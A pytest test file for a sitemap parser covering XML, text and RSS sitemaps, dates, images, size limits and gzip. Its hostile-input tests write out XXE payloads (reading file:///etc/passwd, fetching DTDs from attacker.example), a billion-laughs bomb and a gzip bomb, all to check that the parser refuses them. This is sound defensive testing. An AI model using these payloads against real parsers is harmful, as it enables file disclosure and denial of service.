"""Sitemaps as sites serve them: urlset, index, news, images, text lists, gzip, feeds,
the mistakes real sites make, and documents written to hurt the reader.

Every document here is written by the test itself, as small as the case allows.
"""

from __future__ import annotations

import gzip
import tracemalloc
import zlib
from datetime import UTC, datetime

import pytest

from attribution.errors import SourceError
from attribution.sources.sitemaps import (
    MAX_SITEMAP_BYTES,
    MAX_SITEMAP_ENTRIES,
    SitemapEntry,
    SitemapImage,
    inflate_capped,
    parse_sitemap,
    parse_w3c_datetime,
)

SITEMAP_URL = "https://news.example/sitemap.xml"
NS = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
IMAGE_NS = 'xmlns:image="http://www.google.com/schemas/sitemap-image/1.1"'
NEWS_NS = 'xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"'


def urlset(*urls: str, attributes: str = NS) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<urlset {attributes}>\n'
        + "\n".join(urls)
        + "\n</urlset>\n"
    ).encode()


def refused(body: bytes, **kwargs: int) -> str:
    with pytest.raises(SourceError) as caught:
        parse_sitemap(body, SITEMAP_URL, **kwargs)
    assert caught.value.source == SITEMAP_URL
    assert "\n" not in caught.value.reason
    return caught.value.reason


# --- urlset and index ---------------------------------------------------------------------


def test_a_urlset_gives_its_pages_in_order_with_trimmed_locs_and_dates_in_utc() -> None:
    body = urlset(
        "<url><loc>\n   https://news.example/a.html  \n</loc><lastmod>2024-05-01T10:30:00+02:00</lastmod></url>",
        "<url><loc>https://news.example/b.html</loc></url>",
    )
    sitemap = parse_sitemap(body, SITEMAP_URL)
    assert sitemap.url == SITEMAP_URL
    assert sitemap.pages == (
        SitemapEntry("https://news.example/a.html", datetime(2024, 5, 1, 8, 30, tzinfo=UTC)),
        SitemapEntry("https://news.example/b.html", None),
    )
    assert sitemap.sitemaps == ()
    assert sitemap.notes == ()


def test_an_index_gives_its_child_sitemaps_with_their_lastmod() -> None:
    body = f"""<?xml version="1.0" encoding="UTF-8"?>
<sitemapindex {NS}>
  <sitemap><loc>https://news.example/sitemap-2024.xml.gz</loc><lastmod>2024-06-30</lastmod></sitemap>
  <sitemap><loc>https://news.example/sitemap-news.xml</loc></sitemap>
</sitemapindex>""".encode()
    sitemap = parse_sitemap(body, SITEMAP_URL)
    assert sitemap.pages == ()
    assert sitemap.sitemaps == (
        SitemapEntry("https://news.example/sitemap-2024.xml.gz", datetime(2024, 6, 30, tzinfo=UTC)),
        SitemapEntry("https://news.example/sitemap-news.xml", None),
    )


def test_url_elements_inside_an_index_are_child_sitemaps() -> None:
    body = f"<sitemapindex {NS}><url><loc>https://news.example/s1.xml</loc></url></sitemapindex>"
    sitemap = parse_sitemap(body.encode(), SITEMAP_URL)
    assert [entry.url for entry in sitemap.sitemaps] == ["https://news.example/s1.xml"]
    assert sitemap.pages == ()


@pytest.mark.parametrize(
    "body",
    [
        # no namespace at all
        b"<urlset><url><loc>https://news.example/a</loc></url></urlset>",
        # another prefix for the sitemap namespace
        b'<sm:urlset xmlns:sm="http://www.sitemaps.org/schemas/sitemap/0.9"><sm:url><sm:loc>https://news.example/a</sm:loc></sm:url></sm:urlset>',
        # a prefix that is never declared (an XML error for a namespace-aware parser)
        b"<urlset><url><loc>https://news.example/a</loc><image:image><image:loc>https://news.example/a.jpg</image:loc></image:image></url></urlset>",
        # a byte-order mark, then white space before the XML declaration
        b'\xef\xbb\xbf\r\n  \n<?xml version="1.0" encoding="UTF-8"?><urlset><url><loc>https://news.example/a</loc></url></urlset>',
        # element names in another case
        b"<URLSET><URL><LOC>https://news.example/a</LOC></URL></URLSET>",
        # UTF-16 with its byte-order mark
        '<?xml version="1.0" encoding="UTF-16"?><urlset><url><loc>https://news.example/a</loc></url></urlset>'.encode(
            "utf-16"
        ),
    ],
    ids=[
        "no-namespace",
        "other-prefix",
        "undeclared-prefix",
        "bom-and-space",
        "upper-case",
        "utf-16",
    ],
)
def test_common_mistakes_of_real_sites_are_tolerated(body: bytes) -> None:
    sitemap = parse_sitemap(body, SITEMAP_URL)
    assert [entry.url for entry in sitemap.pages] == ["https://news.example/a"]


def test_locs_that_are_not_absolute_http_urls_are_skipped_and_noted_once() -> None:
    body = urlset(
        "<url><loc>/relative/page.html</loc></url>",
        "<url><loc>ftp://news.example/file</loc></url>",
        "<url><loc>https://news.example/ok</loc></url>",
        "<url><lastmod>2024-01-01</lastmod></url>",
        f"<url><loc>https://news.example/{'a' * 3000}</loc></url>",
    )
    sitemap = parse_sitemap(body, SITEMAP_URL)
    assert [entry.url for entry in sitemap.pages] == ["https://news.example/ok"]
    assert sitemap.notes == (
        "2 URLs skipped: not an absolute http(s) URL (the first: '/relative/page.html')",
        "1 URL skipped: longer than 2,047 characters, the protocol's limit",
        "1 entry without a <loc> skipped",
    )


# --- dates --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024", datetime(2024, 1, 1, tzinfo=UTC)),
        ("2024-05", datetime(2024, 5, 1, tzinfo=UTC)),
        ("2024-05-17", datetime(2024, 5, 17, tzinfo=UTC)),
        ("2024-05-17T09:15Z", datetime(2024, 5, 17, 9, 15, tzinfo=UTC)),
        ("2024-05-17T09:15:30+02:00", datetime(2024, 5, 17, 7, 15, 30, tzinfo=UTC)),
        ("2024-05-17T09:15:30.25-05:00", datetime(2024, 5, 17, 14, 15, 30, 250000, tzinfo=UTC)),
        ("2024-05-17T09:15:30+0530", datetime(2024, 5, 17, 3, 45, 30, tzinfo=UTC)),
        ("2024-05-17 09:15:30", datetime(2024, 5, 17, 9, 15, 30, tzinfo=UTC)),  # naive: UTC
        ("  2024-05-17  ", datetime(2024, 5, 17, tzinfo=UTC)),
        ("Fri, 17 May 2024 09:15:30 +0200", datetime(2024, 5, 17, 7, 15, 30, tzinfo=UTC)),
        ("yesterday", None),
        ("2024-13-01", None),
        ("2024-02-30", None),
        ("2024-05-17T25:00Z", None),
        ("2024-05-17T09:15+25:00", None),
        ("0001-01-01T00:00+05:00", None),  # before the first moment a datetime holds
        ("1715937330", None),
        ("", None),
    ],
)
def test_w3c_datetimes_are_read_as_aware_utc(text: str, expected: datetime | None) -> None:
    moment = parse_w3c_datetime(text)
    assert moment == expected
    if moment is not None:
        assert moment.tzinfo is UTC


def test_unreadable_dates_are_none_and_noted_once_with_their_count() -> None:
    body = urlset(
        *(
            f"<url><loc>https://news.example/{n}</loc><lastmod>soon</lastmod></url>"
            for n in range(3)
        ),
        "<url><loc>https://news.example/ok</loc><lastmod>2024-02-29</lastmod></url>",
    )
    sitemap = parse_sitemap(body, SITEMAP_URL)
    assert [entry.modified for entry in sitemap.pages] == [
        None,
        None,
        None,
        datetime(2024, 2, 29, tzinfo=UTC),
    ]
    assert sitemap.notes == ("3 dates not read: not a W3C datetime (the first: 'soon')",)


# --- news and images ----------------------------------------------------------------------


def test_a_news_publication_date_counts_when_there_is_no_lastmod() -> None:
    news = "<news:news><news:publication>…</news:publication><news:publication_date>{}</news:publication_date></news:news>"
    body = urlset(
        f"<url><loc>https://news.example/a</loc>{news.format('2024-03-01T06:00:00Z')}</url>",
        f"<url><loc>https://news.example/b</loc><lastmod>2024-03-05</lastmod>{news.format('2024-03-01')}</url>",
        f"<url><loc>https://news.example/c</loc><lastmod>garbage</lastmod>{news.format('2024-03-02')}</url>",
        attributes=f"{NS} {NEWS_NS}",
    )
    sitemap = parse_sitemap(body, SITEMAP_URL)
    assert [entry.modified for entry in sitemap.pages] == [
        datetime(2024, 3, 1, 6, tzinfo=UTC),
        datetime(2024, 3, 5, tzinfo=UTC),  # lastmod first
        datetime(2024, 3, 2, tzinfo=UTC),
    ]


def test_image_entries_keep_their_caption_title_and_licence() -> None:
    body = urlset(
        """<url><loc>https://news.example/story</loc>
  <image:image>
    <image:loc> https://cdn.news.example/fox.jpg </image:loc>
    <image:caption>A fox at dawn.  Photo:\tJ. Doe / Agency</image:caption>
    <image:title>Fox</image:title>
    <image:license>https://creativecommons.org/licenses/by-sa/4.0/</image:license>
  </image:image>
  <image:image><image:loc>https://cdn.news.example/owl.jpg</image:loc><image:caption>Owl\x9b31m \u202eevil</image:caption></image:image>
  <image:image><image:loc>owl-small.jpg</image:loc></image:image>
</url>""",
        attributes=f"{NS} {IMAGE_NS}",
    )
    sitemap = parse_sitemap(body, SITEMAP_URL)
    (page,) = sitemap.pages
    assert page.images == (
        SitemapImage(
            "https://cdn.news.example/fox.jpg",
            caption="A fox at dawn. Photo: J. Doe / Agency",
            title="Fox",
            licence="https://creativecommons.org/licenses/by-sa/4.0/",
        ),
        # no control or direction characters reach a report
        SitemapImage("https://cdn.news.example/owl.jpg", caption="Owl31m evil"),
    )
    assert sitemap.notes == (
        "1 image skipped: its image:loc is not an absolute http(s) URL (the first: 'owl-small.jpg')",
    )


def test_the_page_loc_is_not_taken_from_an_image_or_a_video() -> None:
    body = urlset(
        """<url>
  <image:image><image:loc>https://cdn.news.example/first.jpg</image:loc></image:image>
  <video:video><video:title>Clip</video:title><video:content_loc>https://cdn.news.example/v.mp4</video:content_loc></video:video>
  <loc>https://news.example/page</loc>
</url>""",
        attributes=f'{NS} {IMAGE_NS} xmlns:video="http://www.google.com/schemas/sitemap-video/1.1"',
    )
    (page,) = parse_sitemap(body, SITEMAP_URL).pages
    assert page.url == "https://news.example/page"
    assert [image.url for image in page.images] == ["https://cdn.news.example/first.jpg"]
    assert page.images[0].title is None


def test_images_past_a_thousand_on_one_page_are_noted() -> None:
    images = "".join(
        f"<image:image><image:loc>https://cdn.news.example/{n}.jpg</image:loc></image:image>"
        for n in range(1_002)
    )
    body = urlset(
        f"<url><loc>https://news.example/gallery</loc>{images}</url>", attributes=f"{NS} {IMAGE_NS}"
    )
    sitemap = parse_sitemap(body, SITEMAP_URL)
    assert len(sitemap.pages[0].images) == 1_000
    assert sitemap.notes == ("2 images skipped: more than 1,000 listed for one page",)


# --- text sitemaps and feeds --------------------------------------------------------------


def test_a_text_sitemap_lists_one_url_a_line() -> None:
    body = b"\xef\xbb\xbfhttps://news.example/a\r\n\r\n  https://news.example/b  \nnot a url\n/relative\nhttps://news.example/c"
    sitemap = parse_sitemap(body, "https://news.example/sitemap.txt")
    assert [entry.url for entry in sitemap.pages] == [
        "https://news.example/a",
        "https://news.example/b",
        "https://news.example/c",
    ]
    assert sitemap.notes == (
        "2 lines skipped: not an absolute http(s) URL (the first: 'not a url')",
    )


def test_a_text_sitemap_stops_at_the_entry_limit() -> None:
    body = "\n".join(f"https://news.example/{n}" for n in range(12)).encode()
    sitemap = parse_sitemap(body, SITEMAP_URL, max_entries=10)
    assert len(sitemap.pages) == 10
    assert sitemap.notes == ("more than 10 URLs: the rest are ignored (the limit asked for)",)


def test_an_rss_feed_is_read_as_a_sitemap_as_the_protocol_allows() -> None:
    body = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>News</title>
<item><link>https://news.example/one</link><pubDate>Fri, 17 May 2024 09:00:00 GMT</pubDate></item>
</channel></rss>"""
    sitemap = parse_sitemap(body, "https://news.example/feed.xml")
    assert sitemap.pages == (
        SitemapEntry("https://news.example/one", datetime(2024, 5, 17, 9, tzinfo=UTC)),
    )
    assert sitemap.notes == ("read as an RSS or Atom feed, which the protocol allows",)


# --- what is not a sitemap ----------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        b"<!DOCTYPE html>\n<html><head><title>Not found</title></head><body>Sorry</body></html>",
        b"<html><head><title>Home</title></head><body><p>Hello</p></body></html>",
        b"<!-- generated --><HTML><BODY><P>Unclosed<BR></BODY></HTML>",
        b"\n\n<html lang=en><head><meta charset=utf-8><title>x</title>",
        b"Welcome!\n<html><body>Hello</body></html>",
    ],
)
def test_an_html_page_is_named_as_such(body: bytes) -> None:
    assert refused(body) == "not a sitemap: the address answered with an HTML page"


def test_a_root_element_that_is_not_a_sitemaps_is_named() -> None:
    assert refused(
        b'<?xml version="1.0"?><catalog><url><loc>https://news.example/</loc></url></catalog>'
    ) == ("not a sitemap: its root element is <catalog>, not <urlset> or <sitemapindex>")


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "not a sitemap: the body is empty"),
        (b" \r\n\t ", "not a sitemap: the body is empty"),
        (bytes(range(256)) * 4, "not a sitemap: neither XML nor a list of URLs"),
        (b"Service unavailable, try later", "not a sitemap: neither XML nor a list of URLs"),
        (
            b"<urlset><url><loc>https://news.example/a&b</loc></url></urlset>",
            "not a sitemap: its XML breaks",
        ),
        (b"<not xml at all", "not a sitemap: not XML"),
    ],
)
def test_what_is_neither_xml_nor_a_list_of_urls_is_refused_in_one_line(
    body: bytes, reason: str
) -> None:
    assert refused(body).startswith(reason)


def test_entries_read_before_the_xml_breaks_are_kept_and_the_break_noted() -> None:
    body = urlset(
        "<url><loc>https://news.example/a</loc></url>",
        "<url><loc>https://news.example/b</loc></url>",
        "<url><loc>https://news.example/c & d</loc></url>",
        "<url><loc>https://news.example/e</loc></url>",
    )
    sitemap = parse_sitemap(body, SITEMAP_URL)
    assert [entry.url for entry in sitemap.pages] == [
        "https://news.example/a",
        "https://news.example/b",
    ]
    (note,) = sitemap.notes
    assert (
        note
        == "the XML breaks at line 5, column 34 (not well-formed (invalid token)): what follows is ignored"
    )


# --- hostile sitemaps ---------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE urlset [
  <!ENTITY a "aaaaaaaaaa">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
  <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
  <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
  <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
  <!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
  <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">
]>
<urlset><url><loc>https://news.example/&i;</loc></url></urlset>"""


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY x SYSTEM "file:///etc/passwd">]><urlset><url><loc>https://news.example/&x;</loc></url></urlset>',
        b'<?xml version="1.0"?><!DOCTYPE urlset SYSTEM "https://attacker.example/evil.dtd"><urlset/>',
        b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY % p SYSTEM "https://attacker.example/p.dtd"> %p;]><urlset/>',
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_a_dtd_is_refused_before_any_entity_is_expanded(body: bytes) -> None:
    tracemalloc.start()
    try:
        reason = refused(body)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert reason == "refused: the sitemap declares entities (DTD)"
    assert peak < 1024 * 1024  # the billion laughs would be a gigabyte


def test_a_sitemap_over_the_protocols_50000_urls_keeps_50000_and_says_so() -> None:
    body = urlset(
        *(
            f"<url><loc>https://news.example/p/{n}</loc></url>"
            for n in range(MAX_SITEMAP_ENTRIES + 1)
        )
    )
    sitemap = parse_sitemap(body, SITEMAP_URL)
    assert len(sitemap.pages) == MAX_SITEMAP_ENTRIES
    assert sitemap.pages[-1].url == f"https://news.example/p/{MAX_SITEMAP_ENTRIES - 1}"
    assert sitemap.notes == (
        "more than 50,000 URLs: the rest are ignored, as the sitemap protocol allows no more",
    )


def test_exactly_50000_urls_need_no_note() -> None:
    body = urlset(
        *(f"<url><loc>https://news.example/p/{n}</loc></url>" for n in range(MAX_SITEMAP_ENTRIES))
    )
    sitemap = parse_sitemap(body, SITEMAP_URL)
    assert len(sitemap.pages) == MAX_SITEMAP_ENTRIES
    assert sitemap.notes == ()


def _large_sitemap(size: int) -> bytes:
    """A sitemap of ``size`` bytes or more whose pages each list many alternates (as
    multilingual sites do), so that it has fewer pages than the protocol's limit."""
    slug = "-".join(["a-story-with-a-long-title"] * 28)
    alternates = "".join(
        f'<xhtml:link rel="alternate" hreflang="l{n}" href="https://news.example/l{n}/{slug}"/>'
        for n in range(2)
    )
    parts = [
        f'<?xml version="1.0" encoding="UTF-8"?>\n<urlset {NS} xmlns:xhtml="http://www.w3.org/1999/xhtml">\n'
    ]
    total = len(parts[0])
    n = 0
    while total < size:
        part = f"<url><loc>https://news.example/p/{n}</loc><lastmod>2024-01-01</lastmod>{alternates}</url>\n"
        parts.append(part)
        total += len(part)
        n += 1
    parts.append("</urlset>\n")
    return "".join(parts).encode()


def test_a_60_mb_sitemap_is_read_as_a_stream_up_to_the_protocols_50_mb() -> None:
    body = _large_sitemap(60 * 1024 * 1024)
    tracemalloc.start()
    try:
        sitemap = parse_sitemap(body, SITEMAP_URL)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert sitemap.notes == (
        "the sitemap is larger than 50 MB, the most the protocol allows: what lies past it is ignored",
    )
    # Every page wholly inside the first 50 MB, and none past it.
    inside = body[:MAX_SITEMAP_BYTES].count(b"</url>")
    assert len(sitemap.pages) == inside
    assert 30_000 < inside < MAX_SITEMAP_ENTRIES
    # A tree of the document would hold hundreds of MB; a copy of the body 50. What is
    # kept is the pages (a few MB).
    assert peak < 16 * 1024 * 1024


# --- gzip ---------------------------------------------------------------------------------


def test_a_gzip_sitemap_is_inflated_first() -> None:
    body = urlset("<url><loc>https://news.example/a</loc></url>")
    sitemap = parse_sitemap(gzip.compress(body), "https://news.example/sitemap.xml.gz")
    assert [entry.url for entry in sitemap.pages] == ["https://news.example/a"]


def _gzip_bomb(inflated_mb: int) -> bytes:
    """Gzip data that inflates to ``inflated_mb`` MB of zeros, made without holding them."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    megabyte = bytes(1024 * 1024)
    parts = [compressor.compress(megabyte) for _ in range(inflated_mb)]
    parts.append(compressor.flush())
    return b"".join(parts)


def test_a_gzip_bomb_is_refused_without_inflating_it_whole() -> None:
    bomb = _gzip_bomb(80)
    assert len(bomb) < 1024 * 1024
    tracemalloc.start()
    try:
        with pytest.raises(SourceError) as caught:
            inflate_capped(bomb, 4 * 1024 * 1024, url=SITEMAP_URL)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert caught.value.reason == (
        "refused: the gzip data inflates to more than 4 MB (the most a sitemap may hold; a gzip bomb?)"
    )
    assert peak < 12 * 1024 * 1024  # never much more than the limit, not 80 MB
    assert refused(bomb).startswith("refused: the gzip data inflates to more than 50 MB")


def test_inflation_stops_at_the_limit_exactly() -> None:
    data = b"x" * 1000
    assert inflate_capped(gzip.compress(data), 1000, url=SITEMAP_URL) == data
    with pytest.raises(SourceError, match="more than 999 bytes"):
        inflate_capped(gzip.compress(data), 999, url=SITEMAP_URL)


def test_several_gzip_members_are_inflated_and_trailing_bytes_ignored() -> None:
    body = gzip.compress(b"one ") + gzip.compress(b"two") + b"\x00\x00\x00"
    assert inflate_capped(body, 100, url=SITEMAP_URL) == b"one two"


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (gzip.compress(b"<urlset/>" * 100)[:-30], "the gzip data is cut short"),
        (b"\x1f\x8b" + b"\x00" * 40, "not valid gzip data"),
    ],
)
def test_broken_gzip_is_refused(body: bytes, reason: str) -> None:
    assert refused(body).startswith(reason)
